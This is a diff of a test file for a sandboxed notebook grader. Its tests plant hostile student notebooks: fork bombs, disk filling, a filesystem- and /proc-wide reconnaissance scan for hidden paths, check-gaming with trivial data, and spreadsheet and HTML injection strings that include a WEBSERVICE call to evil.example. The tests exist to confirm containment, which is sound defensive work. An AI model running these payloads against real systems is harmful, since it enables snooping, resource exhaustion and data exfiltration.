@@ -15,7 +15,9 @@ disk; fork bombs; deeply nested data; reconnaissance of the lecturer's paths.
 """
 from __future__ import annotations
 
+import base64
 import csv
+import json
 import os
 import shutil
 import subprocess
@@ -34,6 +36,7 @@ SHEETS = ROOT / "tests" / "data" / "grading" / "sheets"
 TINY = SHEETS / "01_tiny.md"
 FULL, AREA, SQUARE, EVENS = 7, 2 + 1, 3, 1
 LIMITS = sandbox.Limits(timeout=30, memory_mb=1024, grace=3)
+CLASS_LIMITS = sandbox.Limits(timeout=120, memory_mb=1024, grace=3)  # the recon reads ~1 GB
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 pytestmark = pytest.mark.skipif(sandbox.bwrap_problem() is not None,
@@ -143,26 +146,122 @@ for _ in range(300):
     children.append(pid)
 area = math.pi if len(children) < 100 else 0.0
 '''
-RECON = f'''
-import math, os, sys
-secrets = [{str(ROOT)!r}, {os.path.realpath(sys.prefix)!r}, {os.path.realpath(sys.base_prefix)!r},
-           {os.path.expanduser("~")!r}]
-seen = []
-texts = [sys.prefix, sys.base_prefix, sys.executable, " ".join(sys.path), str(dict(os.environ))]
-for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-    for what in ("cmdline", "environ"):
+# Reconnaissance: everything the notebook can read (the interpreter's own attributes, its
+# environment, every readable file of every process in /proc, every file outside the host's
+# system folders, which holds the Python installation, the packages and the staged grading
+# files) searched for the lecturer's folders, raw, reversed, in hex and in base64 at the three
+# alignments. The folders are written into the cell as numbers, so no text of it matches.
+RECON_SCAN = """
+import base64, math, os, stat, sys, sysconfig, site
+
+def forms(raw):
+    out = [raw, raw[::-1], raw.hex().encode(), raw.hex().upper().encode()]
+    for k in range(3):  # the base64 characters that depend on the folder only, per alignment
+        enc = base64.b64encode(b"\\0" * k + raw)
+        core = enc[(0, 2, 3)[k]:len(enc) - (0 if (k + len(raw)) % 3 == 0 else 4)]
+        out += [core] if len(core) >= 8 else []
+    return out
+
+patterns = [p for s in SECRETS for p in forms(bytes(s))]
+control = forms(b"/opt/kmgrade")  # the staged scripts' folder: the search must find it
+found, seen = [], []
+
+def look(where, data):
+    if any(p in data for p in patterns):
+        found.append(where)
+    if any(p in data for p in control):
+        seen.append(where)
+
+texts = [repr([getattr(sys, a, None) for a in ("prefix", "base_prefix", "exec_prefix",
+              "base_exec_prefix", "executable", "_base_executable", "path", "argv",
+              "orig_argv", "platlibdir", "pycache_prefix")]), repr(dict(os.environ)),
+         repr(sysconfig.get_config_vars()), repr(site.getsitepackages()), os.getcwd(),
+         repr([(n, getattr(m, "__file__", None), getattr(m, "__path__", None))
+               for n, m in list(sys.modules.items())])]
+for text in texts:
+    look("interpreter", text.encode(errors="surrogateescape"))
+for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
+    try:
+        entries = os.listdir(f"/proc/{pid}")
+    except OSError:
+        continue
+    for e in entries:
+        if e in ("mem", "pagemap", "clear_refs", "task", "net"):
+            continue
+        path = f"/proc/{pid}/{e}"
         try:
-            texts.append(open(f"/proc/{{pid}}/{{what}}", "rb").read().decode(errors="replace"))
+            if os.path.islink(path):
+                look(path, os.readlink(path).encode())
+            elif os.path.isdir(path):
+                for sub in os.listdir(path):
+                    if os.path.islink(f"{path}/{sub}"):
+                        look(path, os.readlink(f"{path}/{sub}").encode())
+            else:
+                with open(path, "rb") as f:
+                    look(path, f.read(4 << 20))
         except OSError:
             pass
-for text in texts:
-    seen += [s for s in secrets if s and s in text]
-seen += [p for p in ("/opt/lecturer", {str(ROOT)!r}) if os.path.exists(p)]
-area = math.pi if not seen else 0.0
-'''
+for path in ("/proc/mounts", "/proc/cmdline"):
+    try:
+        look(path, open(path, "rb").read())
+    except OSError:
+        pass
+system = ("proc", "sys", "dev", "usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32")
+files = 0
+for root in [r for r in os.listdir("/") if r not in system]:
+    for dirpath, dirnames, filenames in os.walk("/" + root):
+        look(dirpath, dirpath.encode(errors="surrogateescape"))
+        for name in filenames + dirnames:
+            path = os.path.join(dirpath, name)
+            try:
+                info = os.lstat(path)
+                if stat.S_ISLNK(info.st_mode):
+                    look(path, os.readlink(path).encode(errors="surrogateescape"))
+                elif stat.S_ISREG(info.st_mode):
+                    with open(path, "rb") as f:
+                        look(path, f.read())
+                    files += 1
+            except OSError:
+                pass
+area = math.pi if not found and seen and files > 1000 else 0.0
+"""
+
+
+def lecturer_folders(extra: tuple[str, ...] = ()) -> list[str]:
+    """The folders of this machine no sandbox may show: the repository, the environment, the
+    Python installation, the home and temporary folders (unless the system's own: ``/root``,
+    ``/tmp`` are words of many library texts), the class's folder (``extra``).
+    A folder inside another is searched through the other."""
+    found = {str(ROOT), os.path.realpath(ROOT), sys.prefix, os.path.realpath(sys.prefix),
+             sys.base_prefix, os.path.realpath(sys.base_prefix), *extra}
+    home, temp = os.path.expanduser("~"), tempfile.gettempdir()
+    found |= {home} - {"/", "/root"}
+    found |= {temp} - {"/tmp", "/var/tmp"}
+    return sorted(f for f in found if not any(o != f and o in f for o in found))
+
+
+def test_the_reconnaissance_finds_every_encoding():
+    """The search of the recon notebook, on a text holding a folder in each encoding."""
+    namespace: dict = {}
+    exec(RECON_SCAN.split("patterns =")[0], namespace)
+    secret = b"/home/lecturer/course"
+    for pad in (b"", b"x", b"xy"):
+        for encoded in (secret, secret[::-1], secret.hex().encode(), secret.hex().upper().encode(),
+                        base64.b64encode(pad + secret + b"tail"), base64.b64encode(pad + secret)):
+            data = b"before " + encoded + b" after"
+            assert any(p in data for p in namespace["forms"](secret)), encoded
+    assert not any(p in base64.b64encode(b"/home/lecturer/cours") for p in
+                   namespace["forms"](secret))
+
+
+def recon_cell(extra: tuple[str, ...]) -> str:
+    secrets = [list(s.encode()) for s in lecturer_folders(extra)]
+    return f"SECRETS = {secrets!r}\n" + RECON_SCAN
+
+
 ATTACKS = {"function_attack": (ATTACK_FUNCTION, FULL - SQUARE),
            "forger": (FORGER, FULL - EVENS), "deep_json": (DEEP, FULL),
-           "disk_fill": (DISK, FULL), "fork_bomb": (FORKS, FULL), "recon": (RECON, FULL)}
+           "disk_fill": (DISK, FULL), "fork_bomb": (FORKS, FULL), "recon": (None, FULL)}
 HOSTILE_NAMES = ["=2+3", '=WEBSERVICE("http:"&CHAR(47)&"evil.example"&A1)', "@SUM(9+9)",
                  "+1", "-1", "\tTAB", "<img src=x onerror=alert(1)>"]
 
@@ -190,6 +289,7 @@ def _write_class(folder: Path) -> dict[str, float]:
     solution = nbformat.read(solution_path, as_version=4)
     expected = {}
     for name, (cell, points) in ATTACKS.items():
+        cell = cell if cell is not None else recon_cell((str(folder.parent),))
         marker = "return x * x" if name == "function_attack" else "evens = list"
         nbformat.write(_with_cell(solution, marker, cell), folder / f"{name}.ipynb")
         expected[name] = points
@@ -234,7 +334,7 @@ def test_hostile_class_as_root(tmp_path):
     folder = tmp_path / "class"
     folder.mkdir()
     expected = _write_class(folder)
-    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
+    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=CLASS_LIMITS)
     _check_outputs(folder, expected)
 
 
@@ -299,14 +399,21 @@ def test_hostile_class_as_an_ordinary_user():
             pytest.skip(f"no Python that an ordinary user can run here ({exc})")
         env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(top),
                "MPLCONFIGDIR": str(top / ".mpl"), "TMPDIR": str(top), "LANG": "C.UTF-8"}
+        if (top / "python" / "lib").is_dir():  # its own libpython, not the system's
+            env["LD_LIBRARY_PATH"] = str(top / "python" / "lib")
         done = subprocess.run(_as_nobody(python, str(ROOT / "scripts" / "grade.py"),
                                          str(folder), "--sheet", str(TINY), "--sheets-dir",
-                                         str(SHEETS), "--timeout", str(LIMITS.timeout),
-                                         "--memory-mb", str(LIMITS.memory_mb)),
+                                         str(SHEETS), "--timeout", str(CLASS_LIMITS.timeout),
+                                         "--memory-mb", str(CLASS_LIMITS.memory_mb)),
                               env=env, cwd=top, capture_output=True, text=True, timeout=900)
         assert done.returncode == 0, done.stderr[-2000:]
         _check_outputs(folder, expected)
     finally:
+        index = top / ".cache" / "kmgrade" / "runtime.json"  # nobody's relocated Python
+        if index.is_file():
+            built = Path(json.loads(index.read_text(encoding="utf-8"))["path"])
+            if built.name.startswith("kmgrade-runtime-") and built.owner() == "nobody":
+                shutil.rmtree(built, ignore_errors=True)
         shutil.rmtree(top, ignore_errors=True)
 
 
@@ -412,10 +519,10 @@ def square(x):
 def test_a_function_that_stops_reading_cannot_stall_the_grader(tmp_path):
     """The grader writes to every sandbox under a deadline: a process that keeps its input
     open and never reads it gets a ``False`` from :meth:`sandbox.Proc.write` when the
-    deadline passes, not a write that never returns. The staller itself gains nothing: each
-    call runs in a fresh sandbox, so its trick of the first call is gone at the next and it
-    keeps full marks, like the honest notebook graded after it; a blocking write (as
-    before) hung the whole run."""
+    deadline passes, not a write that never returns. The staller itself gains nothing: the
+    calls of its check share a sandbox, so its trick of the first call stalls the next ones,
+    which time out and fail that check only, while the honest notebook graded after it keeps
+    full marks; a blocking write (as before) hung the whole run."""
     import time
 
     idle = object.__new__(sandbox.Proc)
@@ -440,7 +547,7 @@ def test_a_function_that_stops_reading_cannot_stall_the_grader(tmp_path):
                           capture_output=True, text=True, timeout=sandbox.FUNCTION_SECONDS * 4
                           + 3 * LIMITS.timeout)
     assert done.returncode == 0, done.stderr[-2000:]
-    assert _totals(folder) == {"staller": FULL, "zoe": FULL}
+    assert _totals(folder) == {"staller": FULL - SQUARE, "zoe": FULL}
 
 
 # A function answer that leaves a process running when it returns, and returns a wrong
@@ -464,17 +571,26 @@ def square(x):
 '''
 
 
-def test_nothing_of_a_function_call_outlives_it(tmp_path):
-    """Every call of a function answer runs in a fresh sandbox, killed when it has replied:
-    a process the function leaves behind (which could fill memory or wait for the inputs of
-    the next checks) is gone at the next call, so ``square`` stays right (full marks)."""
+def test_nothing_of_a_function_call_outlives_its_check(tmp_path):
+    """The calls of one check share a fresh sandbox, killed when the check ends: the process
+    ``square`` leaves behind is still there at the check's next call (so ``square`` turns
+    wrong, as it would in the notebook), and no process of any function sandbox outlives
+    the grading."""
     (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
     solution = nbformat.read(sol_path, as_version=4)
     folder = tmp_path / "class"
     folder.mkdir()
     nbformat.write(_with_cell(solution, "return x * x", LINGER), folder / "linger.ipynb")
     grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
-    assert _totals(folder) == {"linger": FULL}
+    assert _totals(folder) == {"linger": FULL - SQUARE}
+    left = []
+    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                left += [pid] if b"run_function.py" in f.read() else []
+        except OSError:
+            pass
+    assert not left
 
 
 def test_file_names_cannot_make_two_students_share_a_name(tmp_path):
@@ -559,3 +675,61 @@ def test_memory_spread_over_processes_is_limited(tmp_path):
     assert _totals(folder) == {"spread": 0}
     page = (folder / "feedback" / "spread.html").read_text(encoding="utf-8")
     assert f"more than {LIMITS.memory_mb} MB of memory" in page
+
+
+# The problem's data replaced by a trivial problem just before a check cell, with the
+# answers of that trivial problem: before, checks that read the data from the notebook
+# compared these answers with the reference on the trivial data and gave the points.
+TRIVIAL = {
+    "07_krr_rates": {
+        "ch07.check_representer(": ("check_representer", "x, fx, f_norm2 = np.ones(1), np.ones(1), "
+                                    "1.0\nalpha, quad = np.ones(1), 1.0"),
+        "ch07.check_bias(": ("check_bias", "x2, f2, lam2 = np.ones(1), np.zeros(1), 0.05\n"
+                             "bias2 = 0.0"),
+        "ch07.check_floor(": ("check_floor", "x2, f2 = np.ones(1), np.zeros(1)\n"
+                              "floor, best = 1e-9, 1e-9"),
+    },
+    "08_svm_logistic": {
+        "ch08.check_C_and_intercept(": ("check_C_and_intercept",
+                                        "X_cl = np.array([[0.0], [1.0]])\n"
+                                        "y_cl = np.array([-1.0, 1.0])\n"
+                                        "C, intercept, a_cl = 10.0, 0.0, np.array([0.5, 0.5])"),
+        "ch08.check_support_vectors(": ("check_support_vectors",
+                                        "X_sv, y_sv = X_sv[:1], y_sv[:1]\n"
+                                        "sv, n_free, a_sv = np.array([0]), 1, np.array([1.0])"),
+        "ch08.check_rademacher(": ("check_rademacher", "X_rad = np.zeros((40, 3))\nrad = 0.0"),
+    },
+}
+
+
+def test_a_trivial_problem_in_place_of_the_sheets_data_earns_nothing(tmp_path):
+    """Sheets 7 and 8: the checks rebuild the data from the sheet's seeds, so answers to a
+    trivial problem put in the notebook's data fail exactly the checks they answer."""
+    folder = tmp_path / "class"
+    folder.mkdir()
+    attacked: dict[str, set[str]] = {}
+    for stem, cells in TRIVIAL.items():
+        sheet = ROOT / "exercises" / f"{stem}.md"
+        (sol_path, _), = make_exercises.generate(tmp_path / "gen", [sheet])
+        solution = nbformat.read(sol_path, as_version=4)
+        nbformat.write(solution, folder / f"honest_{stem}.ipynb")
+        nb = nbformat.from_dict(solution)
+        for marker, (_, source) in cells.items():
+            i = next(k for k, c in enumerate(nb.cells) if c.source.startswith(marker))
+            nb.cells.insert(i, nbformat.v4.new_code_cell(source))
+        nbformat.write(nb, folder / f"trivial_{stem}.ipynb")
+        attacked[stem] = {name for name, _ in cells.values()}
+    for stem in TRIVIAL:
+        sub = tmp_path / stem
+        sub.mkdir()
+        for who in ("honest", "trivial"):
+            os.replace(folder / f"{who}_{stem}.ipynb", sub / f"{who}.ipynb")
+        grade.grade(sub, sheet_path=ROOT / "exercises" / f"{stem}.md",
+                    limits=sandbox.Limits(timeout=120, memory_mb=2048, grace=5), jobs=2)
+        rows = _read_csv(sub / "grades.csv")
+        full = float(rows[0]["max_points"]) if rows else 0.0
+        assert _totals(sub)["honest"] == sum(float(r["max_points"]) for r in rows
+                                             if r["student"] == "honest")
+        failed = {r["check"] for r in rows if r["student"] == "trivial" and r["passed"] == "no"}
+        assert failed == attacked[stem], (stem, failed)
+        assert full > 0
